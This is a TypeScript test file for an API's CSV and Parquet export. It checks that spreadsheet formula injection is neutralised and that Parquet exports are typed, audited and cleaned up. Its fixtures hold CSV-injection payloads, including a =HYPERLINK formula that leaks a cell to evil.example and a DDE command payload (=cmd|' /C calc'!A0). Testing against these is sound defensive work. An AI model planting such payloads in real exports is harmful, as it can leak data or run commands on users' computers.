// The export formats of /v1/export over writer-made Parquet (test/helpers/api-fixture.ts):
//
// - CSV is safe to open in a spreadsheet: every cell that could run as a formula
//   (OWASP "CSV Injection") starts with a single quote, whatever column it is in,
//   for the replay generator's texts (posts starting with an @mention) and for
//   hostile ones (=HYPERLINK, +, -, @, tab, CR, blanks before =, full-width signs,
//   hostile links and hashtags); csv_raw=true, NDJSON and Parquet keep exact values.
// - Parquet has typed columns (TIMESTAMP, BOOLEAN, VARCHAR[]) compressed with zstd,
//   and holds, row for row and type for type, what the NDJSON export of the same
//   query holds (read back with DuckDB); it is sent with a Content-Length, counted
//   in the metrics and the audit trail, and its temporary file is removed however
//   the export ends: sent, cut short by the client, failed, or out of time.

import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { cp, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, csvLine, isFormulaLike } from '../services/api/csv.ts';
import { EXPORT_COLUMNS } from '../services/api/routes/export.ts';
import { EXPORT_TMP_PREFIX } from '../services/api/parquet-export.ts';
import { sqlString } from '../services/shared/duckdb.ts';
import type { AuditEntry } from '../services/shared/audit/chain.ts';
import { auditKeys } from '../services/shared/audit/keys.ts';
import { SHARED_REDIS_URL, redisClient, removeDir, tempDir, waitUntil } from './helpers/pipeline.ts';
import { SYNTAX_DID, WINDOW_END, WINDOW_START, buildStore, startTestApi, type ApiFixture, type TestApi } from './helpers/api-fixture.ts';

const window = { start: new Date(WINDOW_START).toISOString(), end: new Date(WINDOW_END).toISOString() };

/** RFC 4180, as a spreadsheet or a CSV library reads it: rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

/**
 * What a spreadsheet would run: OWASP's list (= + - @ tab CR) at the start, also
 * after blanks and invisible characters, and the full-width and small-form signs.
 * Written here from the documented rule (services/api/README.md), not from csv.ts.
 */
const TRIGGERS = new Set(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']);
function runsAsFormula(cell: string): boolean {
  if (cell.startsWith('\t') || cell.startsWith('\r')) return true;
  const first = [...cell].find((c) => !/[\s\p{Cc}\p{Cf}]/u.test(c));
  return first !== undefined && TRIGGERS.has(first);
}

/** A value of an NDJSON export as its CSV cell holds it, before the guard. */
function cellText(value: unknown): string {
  if (value === null || value === undefined) return '';
  return Array.isArray(value) ? value.join('|') : typeof value === 'string' ? value : JSON.stringify(value);
}

describe('CSV cells a spreadsheet would run are made inert', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1, "click me")', true],
    ['+SUM(1,1)', true],
    ['-2+3', true],
    ['@SUM(A1:A2)', true],
    ['\t=1+1', true],
    ['\tplain after a tab', true], // tab and CR are on OWASP's list themselves
    ['\r=1+1', true],
    ['   =1+1', true],
    ['\u00a0\u3000=1+1', true], // no-break and ideographic spaces
    ['\n=1+1', true],
    ['\u200B=1+1', true], // zero-width space
    ['\uFEFF+1', true], // byte order mark
    ['＝1+1', true], // full-width
    ['﹦1+1', true], // small form
    ['−1', true], // minus sign
    ['＠user', true],
    ['@alice.bsky.social hello', true], // a reply's leading mention: inert too
    ['a=b', false],
    ['hello -world', false],
    [' hello', false],
    ['\nhello', false],
    ['2026-11-20T01:00:00.000Z', false],
    ['at://did:plc:abc/app.bsky.feed.post/3k', false],
    ["'=1+1", false], // already text in a spreadsheet
    ['', false],
  ])('%j: %s', (text, inert) => {
    expect(isFormulaLike(text)).toBe(inert);
    expect(runsAsFormula(text)).toBe(inert);
    const [cell] = parseCsv(`${csvField(text)}\r\n`)[0]!;
    expect(cell).toBe(inert ? `'${text}` : text);
    expect(runsAsFormula(cell!)).toBe(false);
    // Raw: exactly the value, as before.
    expect(parseCsv(`${csvField(text, { raw: true })}\r\n`)[0]![0]).toBe(text);
  });

  it('lists are one cell: guarded as a whole', () => {
    expect(csvField(['=1+1', 'formulas'])).toBe("'=1+1|formulas");
    expect(csvField(['formulas', '=1+1'])).toBe('formulas|=1+1');
    expect(csvLine(['-x', null, true, ['@a']])).toBe("'-x,,true,'@a\r\n");
    expect(csvLine(['-x', null, true, ['@a']], { raw: true })).toBe('-x,,true,@a\r\n');
  });

  it("cells with ';' or a tab are quoted: locales that split at ';' do not start a cell inside them", () => {
    expect(csvField('a;=1+1')).toBe('"a;=1+1"');
    expect(csvField('a\t=1+1')).toBe('"a\t=1+1"');
    expect(csvField('a;b', { raw: true })).toBe('a;b');
  });

  it('any value: a spreadsheet never runs the cell, and the value is the cell without its guard', () => {
    const text = fc.string({ unit: fc.oneof(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', ';', '|', "'", '＝', '\u200B', '\u00a0'), fc.string({ unit: 'grapheme', maxLength: 2 })), maxLength: 30 });
    fc.assert(
      fc.property(fc.oneof(text, fc.array(text, { maxLength: 3 })), (value) => {
        const [cells] = parseCsv(csvLine([value, 'end']));
        expect(cells).toHaveLength(2);
        const cell = cells![0]!;
        const expected = cellText(value);
        expect(runsAsFormula(cell)).toBe(false);
        expect(cell === expected || (cell === `'${expected}` && runsAsFormula(expected))).toBe(true);
        expect(parseCsv(csvLine([value, 'end'], { raw: true }))[0]![0]).toBe(expected);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('exports over writer-made Parquet', { timeout: 300_000 }, () => {
  let dir: string;
  let tmp: string;
  let readBackDir: string;
  let fixture: ApiFixture;
  let api: TestApi;
  let previousTmp: string | undefined;

  beforeAll(async () => {
    dir = await tempDir('api-exports');
    // Parquet exports are written under the system's temporary directory: this file's own, to see them come and go.
    tmp = await tempDir('api-exports-tmp');
    readBackDir = await tempDir('api-exports-read');
    previousTmp = process.env.TMPDIR;
    process.env.TMPDIR = tmp;
    fixture = await buildStore(dir);
    api = await startTestApi(dir, { AUDIT_SYNC_MS: '200' });
  });
  afterAll(async () => {
    await api?.close();
    await fixture?.close();
    if (previousTmp === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = previousTmp;
    await removeDir(dir);
    await removeDir(tmp);
    await removeDir(readBackDir);
  });

  const exportUrl = (params: Record<string, string | number | boolean>) =>
    `/v1/export?${new URLSearchParams(Object.entries({ ...window, ...params }).map(([k, v]): [string, string] => [k, String(v)])).toString()}`;
  const get = (params: Record<string, string | number | boolean>) => api.app.inject({ method: 'GET', url: exportUrl(params) });
  const ndjson = async (params: Record<string, string | number | boolean>) =>
    (await get({ ...params, format: 'ndjson' })).body.split('\n').filter((l) => l).map((l) => JSON.parse(l) as Record<string, unknown>);
  const leftovers = async () => (await readdir(tmp)).filter((name) => name.startsWith(EXPORT_TMP_PREFIX));

  describe('CSV', () => {
    it('every cell of every column: inert where a spreadsheet would run it, otherwise the NDJSON value; generator texts included', async () => {
      const expected = await ndjson({});
      const response = await get({});
      expect(response.statusCode).toBe(200);
      const [header, ...rows] = parseCsv(response.body);
      expect(header).toEqual([...EXPORT_COLUMNS]);
      expect(rows).toHaveLength(expected.length);
      let guarded = 0;
      rows.forEach((row, i) => {
        EXPORT_COLUMNS.forEach((column, c) => {
          const value = cellText(expected[i]![column]);
          const cell = row[c]!;
          expect(runsAsFormula(cell), `${column}: ${cell}`).toBe(false);
          expect(cell, column).toBe(runsAsFormula(value) ? `'${value}` : value);
          if (cell !== value) guarded += 1;
        });
      });
      // Posts of the replay generator that open with a mention are among them.
      expect(rows.filter((r) => r[EXPORT_COLUMNS.indexOf('text')]!.startsWith("'@") && r[EXPORT_COLUMNS.indexOf('author_did')] !== SYNTAX_DID).length).toBeGreaterThan(50);
      expect(guarded).toBeGreaterThan(50);
    });

    it('hostile posts: texts, links and hashtags come out inert; csv_raw=true gives them exactly', async () => {
      const q = { q: `from:${SYNTAX_DID} #formulas` };
      const [header, ...rows] = parseCsv((await get(q)).body);
      const column = (name: string) => rows.map((r) => r[header!.indexOf(name)]);
      expect(column('text').sort()).toEqual(
        ["'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"click me\")", "'+SUM(1,1)", "'-2+3", "'@SUM(A1:A2)", "'  =1+1 after spaces", "'＝1+1 full-width"].sort(),
      );
      expect(column('links')).toContain("'=cmd|' /C calc'!A0");
      expect(column('hashtags')).toContain("'=1+1|formulas");
      const [, ...raw] = parseCsv((await get({ ...q, csv_raw: true })).body);
      expect(raw.map((r) => r[header!.indexOf('text')]).sort()).toEqual(column('text').map((t) => t!.slice(1)).sort());
      expect(raw.map((r) => r[header!.indexOf('links')])).toContain("=cmd|' /C calc'!A0");
      // Tab, carriage return and a zero-width space before =.
      const [, ...control] = parseCsv((await get({ q: `from:${SYNTAX_DID} #controlformulas` })).body);
      expect(control.map((r) => r[header!.indexOf('text')]).sort()).toEqual(["'\t=1+1 after a tab", "'\r=1+1 after a carriage return", "'\u200B=1+1 after a zero-width space"].sort());
      // NDJSON is exact.
      expect((await ndjson(q)).map((p) => p.text)).toContain('-2+3');
    });
  });

  describe('Parquet', () => {
    async function parquet(params: Record<string, string | number | boolean>): Promise<{ path: string; headers: Record<string, unknown> }> {
      const response = await get({ ...params, format: 'parquet' });
      expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
      const body = response.rawPayload;
      expect(body.subarray(0, 4).toString()).toBe('PAR1');
      expect(response.headers['content-length']).toBe(String(body.length));
      const path = join(readBackDir, `read-back-${Math.random().toString(36).slice(2)}.parquet`);
      await writeFile(path, body);
      return { path, headers: response.headers };
    }

    async function readBack(path: string) {
      const types = (await fixture.connection.runAndReadAll(`SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet(${sqlString(path)}))`)).getRowObjectsJS();
      const rows = (await fixture.connection.runAndReadAll(`SELECT * FROM read_parquet(${sqlString(path)})`)).getRowObjectsJS();
      const codecs = (await fixture.connection.runAndReadAll(`SELECT DISTINCT compression FROM parquet_metadata(${sqlString(path)})`)).getRowObjectsJS().map((r) => r.compression);
      return { types: Object.fromEntries(types.map((t) => [t.column_name as string, t.column_type as string])), rows, codecs };
    }

    const TYPES: Record<(typeof EXPORT_COLUMNS)[number], string> = {
      uri: 'VARCHAR',
      author_did: 'VARCHAR',
      username: 'VARCHAR',
      timestamp: 'TIMESTAMP',
      indexed_at: 'TIMESTAMP',
      text: 'VARCHAR',
      langs: 'VARCHAR[]',
      hashtags: 'VARCHAR[]',
      mentions: 'VARCHAR[]',
      links: 'VARCHAR[]',
      labels: 'VARCHAR[]',
      is_reply: 'BOOLEAN',
      reply_root_uri: 'VARCHAR',
      reply_parent_uri: 'VARCHAR',
      quote_uri: 'VARCHAR',
      embed_kind: 'VARCHAR',
      has_media: 'BOOLEAN',
    };

    /** A Parquet value as the NDJSON export writes it: timestamps as ISO 8601 strings, the rest as is. */
    const asJson = (value: unknown) => (value instanceof Date ? value.toISOString() : value);

    it.each<[string, Record<string, string | number | boolean>]>([
      ['the whole window', {}],
      ['a q filter over compacted and batch hours', { q: 'coffee -morning lang:en' }],
      ['a row limit', { limit: 25 }],
      ['the hostile posts', { q: `from:${SYNTAX_DID}` }],
      ['nothing matching', { q: 'zebracorn' }],
    ])('%s: typed, zstd, and row for row the NDJSON export of the same query', async (_name, params) => {
      const expected = await ndjson(params);
      const { path, headers } = await parquet(params);
      expect(headers['content-type']).toBe('application/vnd.apache.parquet');
      expect(headers['content-disposition']).toMatch(/^attachment; filename="posts-.*\.parquet"$/);
      expect(headers['x-export-row-cap']).toBe(String(params.limit ?? api.config.EXPORT_MAX_ROWS));
      const { types, rows, codecs } = await readBack(path);
      expect(types).toEqual(TYPES);
      expect(Object.keys(types)).toEqual([...EXPORT_COLUMNS]);
      if (rows.length > 0) expect(codecs).toEqual(['ZSTD']);
      expect(rows.length).toBe(expected.length);
      rows.forEach((row, i) => {
        for (const column of EXPORT_COLUMNS) {
          const value = row[column];
          const json = expected[i]![column];
          expect(asJson(value), `row ${i} ${column}`).toEqual(json);
          // Type for type: what JSON says loosely, Parquet says exactly.
          if (TYPES[column] === 'TIMESTAMP') expect(value).toBeInstanceOf(Date);
          else if (TYPES[column] === 'BOOLEAN') expect(typeof value).toBe('boolean');
          else if (TYPES[column] === 'VARCHAR[]') expect(Array.isArray(value)).toBe(true);
          else expect(value === null || typeof value === 'string').toBe(true);
        }
      });
      if (params.q === undefined && params.limit === undefined) expect(rows.length).toBe(fixture.posts.length);
    });

    it('is counted in the metrics and the audit trail like the other formats', async () => {
      const before = { bytes: api.stats.exportBytes.parquet, rows: api.stats.rowsReturned.export ?? 0, audited: api.stats.auditEvents.export ?? 0 };
      const params = { q: `from:${SYNTAX_DID} lang:fr`, format: 'parquet' as const };
      const response = await get(params);
      expect(response.statusCode).toBe(200);
      expect(api.stats.exportBytes.parquet - before.bytes).toBe(response.rawPayload.length);
      expect((api.stats.rowsReturned.export ?? 0) - before.rows).toBe(2);
      const redis = redisClient(SHARED_REDIS_URL);
      try {
        const entry = await waitUntil(async () => {
          const entries = (await redis.xrange(auditKeys(api.prefix).stream, '-', '+')).map(([, f]) => JSON.parse(f[1]!) as AuditEntry);
          return entries.find((e) => e.action === 'export' && (e.details as { filters: { q?: string } }).filters.q === params.q);
        }, 'the audit entry of the Parquet export');
        expect(entry.details).toMatchObject({ filters: { ...window, ...params }, rows: 2, complete: true });
      } finally {
        redis.disconnect();
      }
      expect(api.stats.auditEvents.export).toBeGreaterThan(before.audited);
    });

    describe('its temporary file is removed however the export ends', () => {
      it('sent', async () => {
        expect((await get({ format: 'parquet', limit: 10 })).statusCode).toBe(200);
        await waitUntil(async () => (await leftovers()).length === 0, 'no export file left');
      });

      it('cut short by the client, before or while the file is sent', async () => {
        await api.app.listen({ port: 0, host: '127.0.0.1' });
        const port = (api.app.server.address() as AddressInfo).port;
        const path = exportUrl({ format: 'parquet' });
        // Goes away after the first bytes of the file.
        await new Promise<void>((resolve, reject) => {
          const request = httpRequest({ host: '127.0.0.1', port, path, headers: { authorization: api.authorization } }, (response) => {
            expect(response.statusCode).toBe(200);
            expect(Number(response.headers['content-length'])).toBeGreaterThan(0);
            response.once('data', () => {
              request.destroy();
              resolve();
            });
          });
          request.on('error', () => undefined);
          request.once('error', reject);
          request.end();
        });
        await waitUntil(async () => (await leftovers()).length === 0, 'no export file left after the client left mid-download');
        // Goes away at once, while the file is being written (or before).
        const early = httpRequest({ host: '127.0.0.1', port, path, headers: { authorization: api.authorization } });
        early.on('error', () => undefined);
        early.end();
        early.destroy();
        await waitUntil(async () => api.engine.stats.running === 0 && (await leftovers()).length === 0, 'no export file left after the client left early');
      });

      it('out of time: a 503, and nothing left', async () => {
        const config = api.config as { EXPORT_TIMEOUT_MS: number };
        const budget = config.EXPORT_TIMEOUT_MS;
        // The route reads its budget per request; 1 ms: no export of this store is that fast.
        config.EXPORT_TIMEOUT_MS = 1;
        try {
          const response = await get({ format: 'parquet' });
          expect(response.statusCode).toBe(503);
          expect(response.json()).toMatchObject({ error: 'timeout' });
        } finally {
          config.EXPORT_TIMEOUT_MS = budget;
        }
        expect(await leftovers()).toEqual([]);
      });

      it('failed: an unreadable Parquet file in the store, a 500 without details, and nothing left', async () => {
        const broken = await tempDir('api-exports-broken');
        await cp(dir, broken, { recursive: true });
        const hourDir = join(broken, 'posts', 'date=2026-11-20', 'hour=20');
        const [file] = (await readdir(hourDir)).filter((f) => f.endsWith('.parquet'));
        await writeFile(join(hourDir, file!), 'PAR1 this is not a Parquet file PAR1');
        const brokenApi = await startTestApi(broken, { LOG_LEVEL: 'fatal' }); // the failure is expected: not in the test's output
        try {
          const response = await brokenApi.app.inject({ method: 'GET', url: exportUrl({ format: 'parquet' }) });
          expect(response.statusCode).toBe(500);
          expect(response.json()).toEqual({ error: 'internal', message: 'internal error; it has been logged' });
          expect(await leftovers()).toEqual([]);
        } finally {
          await brokenApi.close();
          await removeDir(broken);
        }
      });
    });
  });
});
